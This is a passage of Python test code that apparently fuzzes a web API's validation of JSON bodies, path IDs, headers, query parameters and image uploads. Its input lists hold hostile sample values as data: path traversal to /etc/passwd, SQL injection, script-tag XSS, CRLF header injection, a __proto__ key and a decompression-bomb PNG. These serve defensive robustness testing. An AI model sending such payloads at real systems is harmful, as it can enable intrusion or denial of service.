        ("the-calendars-end", "9999-12-31"),
        ("the-calendars-start", "0001-01-01"),
    ],
    lax=[],
    valid=[("one-day", "2020-01-31", "2020-01-31"), ("92-days", "2019-11-01", "2019-11-01")],
)
CHOICES["rollup-to"] = Choices(  # `from` is 2020-01-01
    rejected=[
        *NOT_A_DATE,
        ("before-from", "2019-12-31"),
        ("93-days", "2020-04-02"),
        ("in-the-future", "2999-01-01"),
        ("the-calendars-end", "9999-12-31"),
    ],
    lax=[],
    valid=[("one-day", "2020-01-01", "2020-01-01"), ("92-days-in-a-leap-year", "2020-04-01", "2020-04-01")],
)

# Idempotency-Key values the header's own cases send (None: no header at all).
BAD_IDEMPOTENCY_KEYS: list[tuple[str, list[bytes]]] = [
    ("missing", []),
    ("empty", [b""]),
    ("whitespace-only", [b"   "]),
    ("256-chars", [b"k" * 256]),
    ("10k-chars", [b"k" * 10_000]),
    ("space-inside", [b"a b"]),
    ("control-char", [b"a\x01b"]),
    ("tab-inside", [b"a\tb"]),
    ("del", [b"a\x7fb"]),
    ("non-ascii", ["cl\u00e9".encode()]),
    ("invalid-utf8", [b"\xff\xfe"]),
    ("nbsp-suffix", [b"key\xa0"]),
    ("empty-quoted", [b'""']),
    ("two-headers", [b"k1", b"k2"]),
    ("two-identical-headers", [b"k1", b"k1"]),
]


def good_idempotency_keys(n: int) -> list[tuple[str, bytes]]:
    """Valid keys, unique per call (``n``)."""
    return [
        ("uuid", str(uuid.uuid4()).encode()),
        ("255-chars", f"{n}-".encode().ljust(255, b"k")),
        ("punctuation", b"!#$%&'*+-.^_`|~:" + str(n).encode()),
        ("padded", f"  pad-{n}\t".encode()),
        ("quoted-with-space", f'"quoted {n}"'.encode()),
    ]


BAD_IDS: list[tuple[str, str]] = [
    ("word", "not-a-uuid"),
    ("zero", "0"),
    ("negative", "-1"),
    ("huge-number", str(2**70)),
    ("1000-digits", "1" * 1000),
    ("nul", "%00"),
    ("invalid-utf8", "%ff"),
    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
    ("sql", "'%20OR%20'1'='1"),
    ("bad-hex", "00000000-0000-0000-0000-00000000000g"),
    ("uuid-plus-char", "00000000-0000-0000-0000-0000000000001"),
    ("uuid-short", "00000000-0000-0000-0000-00000000000"),
    ("leading-space", "%2000000000-0000-0000-0000-000000000000"),
    ("emoji", "%F0%9F%A6%80"),
    ("null-word", "null"),
    ("object", "%7B%7D"),
]

BAD_SLUGS: list[tuple[str, str]] = [
    ("unknown", "no-such-problem"),
    ("nul", "%00"),
    ("invalid-utf8", "%ff"),
    ("10k-chars", "x" * 10_000),
    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
    ("uppercase", "VALIDATION-ERROR"),
    ("suffix-nul", "validation-error%00"),
    ("sql", "'%20OR%201=1--"),
    ("emoji", "%F0%9F%A6%80"),
    ("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
]

BAD_SCHEMA_PATHS: list[tuple[str, str]] = [
    ("yaml", "openapi.yaml"),
    ("yml", "openapi.yml"),
    ("unknown-page", "swagger"),
    ("other-ui", "redoc"),
    ("nul", "%00"),
    ("5k-chars", "x" * 5_000),
    ("nested", "a/b/c"),
    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
]

BAD_LIMITS: list[tuple[str, str]] = [
    ("negative", "-1"),
    ("zero", "0"),
    ("above-max", "101"),
    ("huge", str(2**70)),
    ("huge-negative", str(-(2**70))),
    ("word", "abc"),
    ("empty", ""),
    ("fraction", "1.5"),
    ("nul", "%00"),
    ("fullwidth-digit", "%EF%BC%91"),
    ("hex", "0x10"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("sql", "1%20OR%201=1"),
]
LAX_LIMITS: list[tuple[str, str]] = [
    ("exp", "1e1"),
    ("underscore", "1_0"),
    ("padded", "%201"),
    ("repeated", "1&limit=2"),
]


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


BAD_CURSORS: list[tuple[str, str]] = [
    ("punctuation", "!!!"),
    ("3-bytes", "AAAA"),
    ("15-bytes", _b64(b"\x01" * 15)),
    ("17-bytes", _b64(b"\x01" * 17)),
    ("65-chars", "A" * 65),
    ("10k-chars", "A" * 10_000),
    ("empty", ""),
    ("nul", "%00"),
    ("non-ascii", "%C3%A9"),
    ("sql", "'%20OR%201=1--"),
    ("repeated", "a&cursor=b"),
]
LAX_CURSORS: list[tuple[str, str]] = [
    ("random-16-bytes", _b64(os.urandom(16))),
    ("max-uuid", _b64(b"\xff" * 16)),
    ("padded", base64.urlsafe_b64encode(b"\x00" * 16).decode().replace("=", "%3D")),
]

AUTH_VALUES: list[tuple[str, bytes | None]] = [
    ("missing", None),
    ("empty", b""),
    ("scheme-only", b"Bearer"),
    ("scheme-and-space", b"Bearer "),
    ("basic", b"Basic dXNlcjpwYXNz"),
    ("unknown-token", b"Bearer keel_" + b"A" * 43),
    ("oversized-257", b"Bearer " + b"k" * 257),
    ("oversized-10k", b"Bearer " + b"A" * 10_000),
    ("oversized-100k", b"Bearer " + b"A" * 100_000),
    ("nul-bytes", b"Bearer keel_\x00\x00\x00"),
    ("control-chars", b"Bearer \x01\x02\x1b[0m"),
    ("non-ascii", b"Bearer \xc3\xa9\xff\xfe"),
    ("sql", b"Bearer ' OR '1'='1"),
    ("crlf", b"Bearer x\r\nX-Injected: 1"),
]

JUNK_REQUEST_IDS: list[tuple[str, bytes]] = [
    ("control-char", b"\x01junk"),
    ("nul", b"\x00"),
    ("10k-chars", b"x" * 10_000),
    ("129-chars", b"a" * 129),
    ("space", b"a b"),
    ("html", b"<script>alert(1)</script>"),
    ("traversal", b"../../etc/passwd"),
    ("sql", b"' OR 1=1 --"),
    ("invalid-utf8", b"\xff\xfe"),
    ("utf8", "\u65e5\u672c".encode()),
    ("empty", b""),
    ("leading-dash", b"-abc"),
    ("crlf", b"x\r\nSet-Cookie: a=b"),
]

OTHER_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND")


# --------------------------------------------------------------------------------------------------
# Case builders
# --------------------------------------------------------------------------------------------------


def _dumps(body: Any, ascii_only: bool = False) -> bytes:
    return json.dumps(body, ensure_ascii=ascii_only).encode()


def _splice(body: dict[str, Any], name: str, raw: bytes) -> bytes:
    """``body`` as JSON with field ``name``'s value replaced by the raw JSON text ``raw``."""
    marker = "\x1fSPLICE\x1f"
    return _dumps({**body, name: marker}, ascii_only=True).replace(_dumps(marker, ascii_only=True), raw)


def body_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    assert ep.body is not None
    method, _ = key
    spec = ep.body
    path = ep.target(c)
    target = c.victim_user if ep.ids == "user" else c.victim_endpoint if ep.ids == "endpoint" else None
    accepted = ep.ok
    cases: list[Case] = []

    def add(group: str, name: str, content: bytes, expect: Iterable[int], sent: dict[str, Any] | None = None) -> None:
        headers = (*c.auth, ("Content-Type", JSON))
        cases.append(Case(group, name, method, path, frozenset(expect), headers, content, sent=sent, target=target))

    for name, raw in MALFORMED_JSON:
        add("malformed-json", name, raw, {400})
    first = spec.fields[0].name
    # Server bugs today: these four are 500s (UnicodeDecodeError / RecursionError escape msgspec
    # decoding in Litestar's request.json(), and keel.main.errors maps them to internal-error).
    add("malformed-json", "invalid-utf8-in-string", _splice(spec.valid(c), first, b'"\xff\xfe"'), {400})
    add("malformed-json", "overlong-utf8-nul-in-string", _splice(spec.valid(c), first, b'"\xc0\x80"'), {400})
    add("malformed-json", "invalid-utf8-in-key", b'{"\xff": 1}', {400})
    add("malformed-json", "deep-nesting-in-field", _splice(spec.valid(c), first, b"[" * 10_000 + b"]" * 10_000), {400})
    for name, esc in [("lone-high", rb"\ud800"), ("lone-low", rb"\udc00"), ("reversed-pair", rb"\ude00\ud83d")]:
        add("lone-surrogate", name, _splice(spec.valid(c), first, b'"x' + esc + b'y"'), {400, 422})
    # An empty body is not JSON; today it is a 422 whose detail is "'data'" (see the report). Where the
    # body is optional, an empty one may count as none.
    add("malformed-json", "empty-body", b"", {400, 422} | (accepted if spec.optional else set()))

    for name, raw in WRONG_TOP_LEVEL:
        add("wrong-json-type", name, raw, accepted if spec.optional and raw == b"null" else {422})
    if spec.optional:
        # No body at all (no Content-Type either): the defaults apply.
        cases.append(Case("no-body", "nothing", method, path, accepted, c.auth, None, target=target))
    add("wrong-json-type", "array-of-valid-body", _dumps([spec.valid(c)]), {422})
    add("wrong-json-type", "string-of-valid-body", _dumps(json.dumps(spec.valid(c))), {422})

    for name, extra in [
        ("bogus", {"bogus": 1}),
        ("id", {"id": c.owner_id}),
        ("tenant_id", {"tenant_id": str(uuid.uuid4())}),
        ("role", {"role": "owner"}),
        ("created_at", {"created_at": "2000-01-01T00:00:00Z"}),
        ("proto", {"__proto__": {"admin": True}}),
        ("case-variant", {first.upper(): "x"}),
        ("empty-key", {"": "x"}),
    ]:
        add("unknown-field", name, _dumps({**spec.valid(c), **extra}), {422})

    required = [f for f in spec.fields if f.required]
    add("missing-field", "empty-object", b"{}", {422} if required else accepted)
    for f in required:
        body = spec.valid(c)
        body.pop(f.name, None)
        add("missing-field", f.name, _dumps(body), {422})

    first_text = next((f.name for f in spec.fields if f.kind == "text"), None)
    for f in spec.fields:
        group = f"field:{f.name}"
        full = f.name == first_text or (f.kind == "email" and method == "POST")
        edge = [(n, v) for n, v in UNICODE_EDGE + INJECTION if full or n in SAMPLE]

        def put(value: Any, c: Ctx = c, f: Field = f) -> dict[str, Any]:
            return {**spec.valid(c), f.name: value}

        if f.kind == "rate":
            for name, value in RATE_REJECTED:
                add(group, name, _dumps(put(value)), {422})
            for name, value in RATE_LAX:
                add(group, name, _dumps(put(value)), accepted | {422})
            for name, value in RATE_VALID:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
            for name, raw in RAW_NUMBERS:
                add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
            continue
        if f.kind == "event-types":
            for name, value in BAD_EVENT_TYPES:
                add(group, name, _dumps(put(value)), {422})
            for name, value, stored in GOOD_EVENT_TYPES:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: stored})
            for name, raw in RAW_NUMBERS:
                add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
            continue
        if f.kind in CHOICES:
            choices = CHOICES[f.kind]
            for name, value in choices.rejected:
                add(group, name, _dumps(put(value)), {422})
            for name, value in choices.lax:
                add(group, name, _dumps(put(value)), accepted | {422})
            for name, value, stored in choices.valid:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: stored})
            if f.kind == "amount":
                for name, raw in RAW_NUMBERS:
                    add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
            continue
        if f.kind == "bool":
            for name, value in BOOL_REJECTED:
                add(group, name, _dumps(put(value)), {422})
            for name, value in BOOL_LAX:
                add(group, name, _dumps(put(value)), accepted | {422})
            for name, value in BOOL_VALID:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
            continue

        for name, value in WRONG_TYPES_FOR_STRING:
            if value is None and f.nullable:
                add(group, "null", _dumps(put(None)), accepted, sent={f.name: None})
            else:
                add(group, f"type-{name}", _dumps(put(value)), {422})
        for name, raw in RAW_NUMBERS if f.name == first else ():
            add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
        for name, value in BAD_STRINGS:
            if name == "empty" and f.empty_ok:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
            else:
                add(group, name, _dumps(put(value)), {422})
        add(group, "one-over-max-length", _dumps(put("x" * (f.max_len + 1))), {422})

        if f.kind == "text":
            add(group, "max-length", _dumps(put("x" * f.max_len)), accepted, sent={f.name: "x" * f.max_len})
            emoji = "\U0001f980" * f.max_len
            add(group, "max-length-astral", _dumps(put(emoji)), accepted, sent={f.name: emoji})
            for name, value in edge:
                add(group, name, _dumps(put(value)), accepted | {422}, sent={f.name: value})
            add(
                group,
                "escaped-surrogate-pair",
                _dumps(put("\U0001f980 ok"), ascii_only=True),
                accepted,
                sent={f.name: "\U0001f980 ok"},
            )
        elif f.kind == "url":
            for name, value in BAD_URLS:
                add(group, name, _dumps(put(value)), {422})
            for name, value in GOOD_URLS:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
            for name, value in edge:
                url = f"https://example.com/{value}"
                add(group, name, _dumps(put(url)), accepted | {422}, sent={f.name: url})
        elif f.kind == "email":
            for name, value in BAD_EMAILS:
                add(group, name, _dumps(put(value)), {422})
            conflict = {409} if f.unique and (method == "POST" or ep.ids) else set()
            for name, value in edge:
                email = f"{value}{c.n()}@example.com"
                add(group, name, _dumps(put(email)), accepted | {422} | conflict, sent={f.name: f.fold(email)})
            upper = f"UPPER{c.n()}@EXAMPLE.COM"
            add(group, "uppercase", _dumps(put(upper)), accepted, sent={f.name: f.fold(upper)})
            # Server bug today: 500 (value too long for type character varying(320)).
            add(group, "grows-when-lowercased", _dumps(put(GROWS_WHEN_LOWERED)), accepted | {422} | conflict)
        else:
            bad, good = (BAD_TIMEZONES, GOOD_TIMEZONES) if f.kind == "timezone" else (BAD_LOCALES, GOOD_LOCALES)
            for name, value in bad:
                add(group, name, _dumps(put(value)), {422})
            for name, value in good:
                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
            for name, value in edge:
                add(group, name, _dumps(put(value)), accepted | {422})

    # Content types: a valid body, labelled wrongly.
    valid = _dumps(spec.valid(c))
    for name, content_type, content in [
        ("text-plain", "text/plain", valid),
        ("form", "application/x-www-form-urlencoded", b"name=x&email=a%40b.io"),
        (
            "multipart",
            "multipart/form-data; boundary=xyz",
            b'--xyz\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--xyz--\r\n',
        ),
        ("missing", None, valid),
        ("empty", "", valid),
        ("xml", "application/xml", b"<name>x</name>"),
        ("octet-stream", "application/octet-stream", valid),
        ("text-json", "text/json", valid),
        ("json-typo", "application/jsn", valid),
        ("json-prefix", "application/jsonx", valid),
        ("params-only", ";;;", valid),
        ("nul", "application/json\x00", valid),
        ("crlf", "application/json\r\nX-Injected: 1", valid),
    ]:
        headers: tuple[Header, ...] = c.auth if content_type is None else (*c.auth, ("Content-Type", content_type))
        cases.append(Case("content-type", name, method, path, _ok(415), headers, content, target=target))
    for name, content_type in [
        ("charset", "application/json; charset=utf-8"),
        ("uppercase", "APPLICATION/JSON"),
        ("vendor-suffix", "application/vnd.keel+json"),
    ]:
        headers = (*c.auth, ("Content-Type", content_type))
        cases.append(Case("content-type", name, method, path, accepted, headers, _dumps(spec.valid(c)), target=target))

    # Size: exactly the limit is fine (trailing whitespace is valid JSON), one byte more is a 413.
    body = _dumps(spec.valid(c))
    add("size", "exactly-1MiB", body + b" " * (MAX_BODY - len(body)), accepted)
    add("size", "1MiB-plus-1", body + b" " * (MAX_BODY + 1 - len(body)), {413})
    add("size", "5MiB-string", _splice(spec.valid(c), first, b'"' + b"a" * (5 * MAX_BODY) + b'"'), {413})
    cases.append(
        Case(
            "size",
            "chunked-2MiB-no-content-length",
            method,
            path,
            _ok(413),
            (*c.auth, ("Content-Type", JSON)),
            _splice(spec.valid(c), first, b'"' + b"a" * (2 * MAX_BODY) + b'"'),
            chunked=True,
            target=target,
        )
    )
    return cases


def bodyless_junk_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
    """Bodies sent to endpoints that read none: ignored (or refused as too large), never a 5xx."""
    method, _ = key
    expect = ok | {413}
    return [
        Case("ignored-body", name, method, path, expect, (*c.auth, ("Content-Type", ct)), content, chunked=chunked)
        for name, ct, content, chunked in [
            ("malformed-json", JSON, b'{"a": ', False),
            ("text", "text/plain", b"junk", False),
            ("form", "application/x-www-form-urlencoded", b"a=1&b=2", False),
            ("oversized", JSON, b"[" + b"1," * MAX_BODY + b"1]", False),
            ("oversized-chunked", JSON, b"x" * (2 * MAX_BODY), True),
        ]
    ]


# -- images ----------------------------------------------------------------------------------------

INVALID_IMAGE = "/problems/invalid-image"
UNSUPPORTED = "/problems/unsupported-media-type"
TOO_LARGE = "/problems/payload-too-large"
MAX_UPLOAD = 5 * 1024 * 1024  # an avatar's limit, above the app's own MAX_BODY


def _encode(image: Image.Image, fmt: str, **kw: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **kw)
    return out.getvalue()


@cache
def png(color: tuple[int, int, int] = (200, 40, 40), size: tuple[int, int] = (40, 30)) -> bytes:
    return _encode(Image.new("RGB", size, color), "PNG")


@cache
def images() -> dict[str, bytes]:
    """Every image the cases send, made once."""
    rgb = Image.new("RGB", (40, 30), (20, 120, 220))
    rgb.paste((250, 250, 0), (0, 0, 20, 15))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to display
    frames = [Image.new("RGB", (16, 16), c) for c in ((255, 0, 0), (0, 255, 0))]
    gray16 = Image.new("I;16", (16, 16), 40_000)
    noisy = Image.frombytes("RGB", (64, 64), bytes((i * 37 + i // 64) % 256 for i in range(64 * 64 * 3)))
    noisy_png = _encode(noisy, "PNG")
    corrupt = bytearray(noisy_png)
    idat = corrupt.index(b"IDAT")
    corrupt[idat + 20 : idat + 40] = bytes(20)  # inside the compressed data: zlib and the CRC both break
    return {
        "png": png(),
        "jpeg": _encode(rgb, "JPEG", quality=90),
        "webp": _encode(rgb, "WEBP"),
        "rgba-png": _encode(Image.new("RGBA", (30, 40), (0, 200, 0, 100)), "PNG"),
        "palette-png": _encode(rgb.convert("P"), "PNG", transparency=0),
        "gray16-png": _encode(gray16, "PNG"),
        "one-pixel-png": png(size=(1, 1)),
        "tall-png": png(size=(10, 400)),
        "cmyk-jpeg": _encode(Image.new("CMYK", (24, 24), (0, 128, 255, 10)), "JPEG"),
        "exif-rotated-jpeg": _encode(rgb, "JPEG", exif=exif),
        "grayscale-jpeg": _encode(rgb.convert("L"), "JPEG"),
        "animated-webp": _encode(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
        "animated-png": _encode(frames[0], "PNG", save_all=True, append_images=frames[1:]),
        "rgba-webp": _encode(Image.new("RGBA", (24, 24), (9, 9, 9, 0)), "WEBP", lossless=True),
        "gif": _encode(rgb.convert("P"), "GIF"),
        "bmp": _encode(rgb, "BMP"),
        "tiff": _encode(rgb, "TIFF"),
        "ico": _encode(rgb, "ICO"),
        "truncated-png": noisy_png[: len(noisy_png) // 2],
        "truncated-jpeg": _encode(noisy, "JPEG")[:300],
        "truncated-webp": _encode(noisy, "WEBP")[:100],
        "corrupt-png": bytes(corrupt),
        # 10,000 x 10,000 (100 M pixels) in a few kB: a decompression bomb.
        "bomb-png": _encode(Image.new("1", (10_000, 10_000), 0), "PNG"),
        # One pixel over the limit (40 M), in one row.
        "one-pixel-over-png": _encode(Image.new("1", (40_000_001, 1), 0), "PNG"),
    }


def padded_png(total: int) -> bytes:
    """A valid PNG of exactly ``total`` bytes: a private ancillary chunk (which decoders skip) fills it."""
    base = png()
    iend = base.rindex(b"IEND") - 4
    n = total - len(base) - 12
    data = b"\0" * n
    chunk = struct.pack(">I", n) + b"keEl" + data + struct.pack(">I", zlib.crc32(b"keEl" + data))
    return base[:iend] + chunk + base[iend:]


# Accepted media types, as clients may write them: (case name, Content-Type, body).
GOOD_IMAGE_TYPES: list[tuple[str, str, str]] = [
    ("png", "image/png", "png"),
    ("jpeg", "image/jpeg", "jpeg"),
    ("webp", "image/webp", "webp"),
    ("uppercase", "IMAGE/PNG", "png"),
    ("uppercase-subtype", "image/JPEG", "jpeg"),
    ("parameter", "image/webp; q=1", "webp"),
    ("charset-parameter", "image/png; charset=binary", "png"),
    ("trailing-semicolon", "image/png;", "png"),
]
# Refused before the body is read (415): a valid PNG, labelled wrongly, or other content.
BAD_IMAGE_TYPES: list[tuple[str, str | None, bytes | None]] = [
    ("missing", None, None),
    ("empty", "", None),
    ("json", JSON, b'{"image": "iVBORw0KGgo="}'),
    ("text-plain", "text/plain", None),
    ("octet-stream", "application/octet-stream", None),
    ("form", "application/x-www-form-urlencoded", b"image=x"),
    ("multipart", "multipart/form-data; boundary=xyz", None),
    ("gif", "image/gif", None),
    ("svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("avif", "image/avif", None),
    ("heic", "image/heic", None),
    ("x-png", "image/x-png", None),
    ("jpg-typo", "image/jpg", None),
    ("image-wildcard", "image/*", None),
    ("any", "*/*", None),
    ("type-only", "image", None),
    ("empty-subtype", "image/", None),
    ("png-prefix", "image/pngx", None),
    ("two-types", "image/png, image/jpeg", None),
    ("params-only", ";;;", None),
    ("nul", "image/png\x00", None),
    ("crlf", "image/png\r\nX-Injected: 1", None),
]
# Bodies that are not the image they are labelled as, or no readable image at all (422 invalid-image).
BAD_IMAGES: list[tuple[str, str, str | bytes]] = [
    ("empty", "image/png", b""),
    ("text", "image/png", b"not an image"),
    ("json", "image/jpeg", b'{"avatar": "https://evil.test/a.png"}'),
    ("html", "image/webp", b"<html><script>alert(1)</script></html>"),
    ("svg", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
    ("zip", "image/png", b"PK\x03\x04" + b"\0" * 100),
    ("nul-bytes", "image/png", b"\0" * 4096),
    ("png-signature-only", "image/png", png()[:8]),
    ("png-header-only", "image/png", png()[:33]),
    ("truncated-png", "image/png", "truncated-png"),
    ("truncated-jpeg", "image/jpeg", "truncated-jpeg"),
    ("truncated-webp", "image/webp", "truncated-webp"),
    ("corrupt-png", "image/png", "corrupt-png"),
    ("decompression-bomb", "image/png", "bomb-png"),
    ("one-pixel-over-the-limit", "image/png", "one-pixel-over-png"),
    ("jpeg-as-png", "image/png", "jpeg"),
    ("webp-as-png", "image/png", "webp"),
    ("png-as-jpeg", "image/jpeg", "png"),
    ("webp-as-jpeg", "image/jpeg", "webp"),
    ("png-as-webp", "image/webp", "png"),
    ("jpeg-as-webp", "image/webp", "jpeg"),
    ("gif-as-png", "image/png", "gif"),
    ("bmp-as-png", "image/png", "bmp"),
    ("tiff-as-jpeg", "image/jpeg", "tiff"),
    ("ico-as-png", "image/png", "ico"),
]
# Unusual but valid images of an accepted type (202).
GOOD_IMAGES: list[tuple[str, str, str]] = [
    ("rgba-png", "image/png", "rgba-png"),
    ("palette-png", "image/png", "palette-png"),
    ("16-bit-grayscale-png", "image/png", "gray16-png"),
    ("one-pixel-png", "image/png", "one-pixel-png"),
    ("tall-png", "image/png", "tall-png"),
    ("animated-png", "image/png", "animated-png"),
    ("cmyk-jpeg", "image/jpeg", "cmyk-jpeg"),
    ("exif-rotated-jpeg", "image/jpeg", "exif-rotated-jpeg"),
    ("grayscale-jpeg", "image/jpeg", "grayscale-jpeg"),
    ("animated-webp", "image/webp", "animated-webp"),
    ("transparent-webp", "image/webp", "rgba-webp"),
]


def raw_body_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    """An image upload: its media type, the image itself and its size."""
    assert ep.raw is not None
    method, _ = key
    path = ep.target(c)
    accepted = ep.ok
    imgs = images()
    cases: list[Case] = []

    def add(
        group: str,
        name: str,
        content_type: str | None,
        content: bytes,
        expect: Iterable[int],
        problem: str | None = None,
        chunked: bool = False,
    ) -> None:
        headers = c.auth if content_type is None else (*c.auth, ("Content-Type", content_type))
        case = Case(group, name, method, path, frozenset(expect), headers, content, chunked, target=c.victim_user)
        cases.append(replace(case, problem=problem))

    for name, content_type, image in GOOD_IMAGE_TYPES:
        add("content-type", name, content_type, imgs[image], accepted)
    for name, bad_type, content in BAD_IMAGE_TYPES:
        add("content-type", name, bad_type, ep.raw.valid() if content is None else content, {415}, UNSUPPORTED)
    for name, content_type, body in BAD_IMAGES:
        add("image", name, content_type, imgs[body] if isinstance(body, str) else body, {422}, INVALID_IMAGE)
    for name, content_type, image in GOOD_IMAGES:
        add("image", name, content_type, imgs[image], accepted)
    # Data after the image's end: ignored by decoders, so either answer is fine.
    add("image", "trailing-garbage", "image/png", png() + b"\0" * 1000, accepted | {422})

    # Size: avatars may be 5 MiB, more than the 1 MiB of every JSON body; one byte more is a 413.
    add("size", "1MiB-plus-1", "image/png", padded_png(MAX_BODY + 1), accepted)
    add("size", "exactly-5MiB", "image/png", padded_png(MAX_UPLOAD), accepted)
    add("size", "5MiB-plus-1", "image/png", padded_png(MAX_UPLOAD + 1), {413}, TOO_LARGE)
    add("size", "20MiB", "image/png", padded_png(4 * MAX_UPLOAD), {413}, TOO_LARGE)
    add("size", "5MiB-plus-1-of-junk", "image/png", b"\xff" * (MAX_UPLOAD + 1), {413}, TOO_LARGE)
    add("size", "chunked-2MiB-no-content-length", "image/png", padded_png(2 * MAX_BODY), accepted, chunked=True)
    add("size", "chunked-6MiB-no-content-length", "image/png", padded_png(6 * MAX_BODY), {413}, TOO_LARGE, True)
    return cases


def conditional_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    """If-None-Match: the current ETag (of the size asked for) is a 304, anything else the image."""
    method, _ = key
    path, ok = ep.target(c), ep.ok
    etag, etag64 = c.victim_avatar[256], c.victim_avatar[64]
    cases: list[Case] = []

    def add(name: str, value: str | bytes, expect: Iterable[int], query: str = "") -> None:
        headers = (*c.auth, ("If-None-Match", value))
        cases.append(Case("conditional", name, method, path + query, frozenset(expect), headers))

    add("current-etag", etag, {304})
    add("current-etag-explicit-size", etag, {304}, "?size=256")
    add("current-etag-64", etag64, {304}, "?size=64")
    add("among-others", f'"nope", {etag}, "other"', {304})
    # If-None-Match compares weakly, and "*" matches any current image (RFC 9110 13.1.2).
    add("weak", f"W/{etag}", {304})
    add("weak-among-others", f'W/"nope", W/{etag}', {304})
    add("any", "*", {304})
    add("etag-of-the-other-size", etag64, ok)
    add("etag-of-the-other-size-at-64", etag, ok, "?size=64")
    add("unquoted", etag.strip('"'), ok)
    add("uppercase", etag.upper(), ok)
    add("unknown", '"0123456789abcdef"', ok)
    add("empty", "", ok)
    add("control-char", b"\x01junk", ok)
    add("invalid-utf8", b"\xff\xfe", ok)
    add("10k-chars", '"' + "a" * 10_000 + '"', ok)
    add("crlf", b'"x"\r\nSet-Cookie: a=b', ok)
    add("with-bad-size", etag, {422}, "?size=100")
    return cases


def valid_request(ep: Endpoint, c: Ctx) -> tuple[tuple[Header, ...], bytes | None]:
    """The Content-Type header and body of a well-formed request (none where the endpoint reads no body)."""
    if ep.body is not None:
        return (("Content-Type", JSON),), _dumps(ep.body.valid(c))
    if ep.raw is not None:
        return (("Content-Type", ep.raw.types[0]),), ep.raw.valid()
    return (), None


def path_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    method, template = key
    content_type, body = valid_request(ep, c)
    headers: tuple[Header, ...] = (*c.auth, *content_type)
    cases: list[Case] = []

    def add(name: str, segment: str, expect: Iterable[int], target: str | None = None) -> None:
        """``segment`` in place of the route's (only) path parameter, whatever follows it."""
        path = re.sub(r"\{\w+:\w+\}", lambda _: segment, template, count=1)
        cases.append(Case("path", name, method, path, frozenset(expect), headers, body, target=target))

    def add_at(name: str, path: str, expect: Iterable[int], target: str | None = None) -> None:
        cases.append(Case("path", name, method, path, frozenset(expect), headers, body, target=target))

    if ep.ids in ("user", "key"):
        for name, segment in BAD_IDS:
            add(name, segment, {404})
        add("random-uuid", c.missing, {404}, c.missing)
        add("nil-uuid", "00000000-0000-0000-0000-000000000000", {404}, "00000000-0000-0000-0000-000000000000")
        add("uppercase-missing", c.missing.upper(), {404}, c.missing)
        add("hex-missing", uuid.UUID(c.missing).hex, {404}, c.missing)
        add("tenant-id", c.tenant_id, {404}, c.tenant_id)
        if ep.ids == "user":
            add("key-id-as-user-id", c.victim_key, {404}, c.victim_key)
            if method == "DELETE":
                add("owner", c.owner_id, {409}, c.owner_id)
        else:
            add("user-id-as-key-id", c.victim_user, {404}, c.victim_user)
    elif ep.ids in ("endpoint", "delivery", "job", "payment", "refund"):
        # Each id of the route in turn, the others left valid: wherever a bad or foreign id sits, 404.
        ids = {
            "endpoint_id": c.victim_endpoint,
            "delivery_id": c.victim_delivery,
            "job_id": c.job,
            "payment_id": c.victim_payment,
            "refund_id": c.victim_refund,
        }
        nil = "00000000-0000-0000-0000-000000000000"
        for param in re.findall(r"\{(\w+):uuid\}", template):

            def at(segment: str, param: str = param) -> str:
                values = {**ids, param: segment}
                return re.sub(r"\{(\w+):uuid\}", lambda m: values[m.group(1)], template)

            for name, segment in BAD_IDS:
                add_at(f"{param}-{name}", at(segment), {404})
            add_at(f"{param}-random-uuid", at(c.missing), {404}, c.missing)
            add_at(f"{param}-nil-uuid", at(nil), {404}, nil)
            add_at(f"{param}-uppercase-missing", at(c.missing.upper()), {404}, c.missing)
            add_at(f"{param}-hex-missing", at(uuid.UUID(c.missing).hex), {404}, c.missing)
            add_at(f"{param}-tenant-id", at(c.tenant_id), {404}, c.tenant_id)
            add_at(f"{param}-user-id", at(c.victim_user), {404}, c.victim_user)
            add_at(f"{param}-key-id", at(c.victim_key), {404}, c.victim_key)
            for other, value in ids.items():
                if other != param:
                    add_at(f"{param}-given-{other}", at(value), {404}, value)
        if ep.ids == "refund":
            # A real refund, addressed under another (real) payment of the tenant.
            wrong = {**ids, "payment_id": c.declined_payment}
            add_at(
                "refund-under-another-payment", re.sub(r"\{(\w+):uuid\}", lambda m: wrong[m.group(1)], template), {404}
            )
    elif ep.ids == "slug":
        for name, segment in BAD_SLUGS:
            add(name, segment, {404})
    elif ep.ids == "schema":
        for name, segment in BAD_SCHEMA_PATHS:
            add(name, segment, {404})
    return cases


def query_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
    """Junk query parameters are ignored; paging parameters are validated."""
    method, _ = key
    cases = [
        Case("query", name, method, f"{path}?{query}", ok, (*c.auth, *valid[0]), valid[1])
